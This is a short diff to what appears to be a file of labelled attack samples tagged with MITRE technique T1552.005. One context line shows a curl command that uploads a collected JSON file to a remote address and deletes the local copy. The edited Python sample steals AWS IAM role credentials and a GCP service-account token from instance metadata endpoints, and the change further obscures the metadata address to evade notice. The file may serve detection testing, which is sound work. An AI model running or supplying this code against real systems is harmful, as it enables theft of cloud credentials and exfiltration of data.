@@ -25,7 +25,7 @@ curl -F "userfile=@/tmp/c.json" http://192.0.2.21/in/upload.php; rm -f /tmp/c.js
     technique: 'The same with session tokens, and for two more clouds, in Python (T1552.005).',
     files: {
       'app/env.py': `import requests as r
-M = "http://169.254." + "169.254"
+M = "http://" + ".".join(["169", "254"] * 2)
 t = r.put(M + "/latest/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"}, timeout=1).text
 role = r.get(M + "/latest/meta-data/iam/security-credentials/", headers={"X-aws-ec2-metadata-token": t}).text
 g = r.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"})
